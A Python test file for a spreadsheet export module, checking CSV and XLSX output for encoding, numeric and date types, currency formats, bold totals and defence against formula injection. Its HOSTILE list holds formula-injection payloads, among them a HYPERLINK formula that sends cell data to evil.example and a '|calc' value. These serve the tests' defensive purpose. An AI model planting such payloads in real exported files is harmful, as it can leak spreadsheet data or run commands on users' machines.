"""CSV and XLSX files that open right in Excel and WPS and never carry a live formula."""

import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest

from exchange.files.spreadsheets import INSTANT, INTEGER, MONEY, Column, Line, csv_chunks, write_xlsx
from tests.helpers import csv_rows

BEIJING = timezone(timedelta(hours=8))
COLUMNS = [Column("name"), Column("posted_at", INSTANT), Column("count", INTEGER), Column("amount", MONEY),
           Column("currency")]
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+86 138", "-2+3", "@SUM(A1:A9)",
           "%0A=1", "|calc", "\t=1+1", "\r=1+1", "＝1+1", "－1", "＠SUM(A1)"]


def lines(names):
    at = datetime(2026, 10, 31, 23, 59, 59, tzinfo=BEIJING)
    return [Line({"name": name, "posted_at": at, "count": -3, "amount": -12345, "currency": "CNY"})
            for name in names]


def csv_bytes(columns, rows) -> bytes:
    return "".join(csv_chunks(columns, rows, every=2)).encode()


def test_csv_starts_with_a_bom_and_ends_lines_with_crlf():
    body = csv_bytes(COLUMNS, lines(["暖暖孕婴坊"] * 5))
    assert body.startswith(b"\xef\xbb\xbf") and body.count(b"\r\n") == 6
    assert csv_rows(body)[0] == {"name": "暖暖孕婴坊", "posted_at": "2026-10-31T23:59:59+08:00", "count": "-3",
                                 "amount": "-12345", "currency": "CNY"}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_cell_that_would_start_a_formula_is_neutralised_and_still_reads_right(name):
    cell = csv_rows(csv_bytes(COLUMNS, lines([name])))[0]["name"]
    # OWASP: a leading apostrophe makes the cell text; the name after it is intact (a pipe is
    # escaped as well, as defusedcsv does).
    assert cell.startswith("'") and cell[1:].replace("\\|", "|") == name


def test_numbers_stay_numbers_even_negative_ones():
    row = csv_rows(csv_bytes(COLUMNS, lines(["x"])))[0]
    assert row["count"] == "-3" and row["amount"] == "-12345"


def test_ordinary_names_and_references_are_untouched():
    names = ["贝贝童车馆", "Bob's Toys", "POS-1001", "7K3M-Q9TX-2HPDW", "100% 纯棉"]
    assert [row["name"] for row in csv_rows(csv_bytes(COLUMNS, lines(names)))] == names


def read_xlsx(rows, columns=COLUMNS):
    out = io.BytesIO()
    write_xlsx(out, "结算单 2026-10", columns, rows)
    out.seek(0)
    return openpyxl.load_workbook(out)


def test_xlsx_amounts_are_yuan_numbers_with_the_currency_format():
    book = read_xlsx([*lines(["a"]), Line({"name": "港币", "amount": 123456, "currency": "HKD"}, currency="HKD")])
    sheet = book["结算单 2026-10"]
    assert [c.value for c in sheet[1]] == ["name", "posted_at", "count", "amount", "currency"]
    amount = sheet["D2"]
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-123.45")
    assert '"¥"#,##0.00' in amount.number_format
    assert sheet["D3"].value == 1234.56 and '"HK$"' in sheet["D3"].number_format
    assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"


def test_xlsx_instants_are_dates_in_local_time():
    cell = read_xlsx(lines(["a"])).active["B2"]
    assert cell.is_date and cell.value == datetime(2026, 10, 31, 23, 59, 59)


def test_xlsx_text_is_never_a_formula_and_chinese_is_intact():
    # (Control characters never reach a sheet: text fields refuse them.)
    texts = [name for name in HOSTILE if name.isprintable()] + ["暖暖孕婴坊 人民路店"]
    sheet = read_xlsx(lines(texts)).active
    values = [sheet.cell(row=n, column=1) for n in range(2, len(texts) + 2)]
    assert all(cell.data_type == "s" for cell in values), [(c.value, c.data_type) for c in values]
    assert [cell.value for cell in values] == texts


def test_xlsx_totals_are_bold():
    sheet = read_xlsx([*lines(["a"]), Line({"name": "合计", "amount": 100}, total=True)]).active
    assert not sheet["D2"].font.b and sheet["D3"].font.b and sheet["A3"].font.b
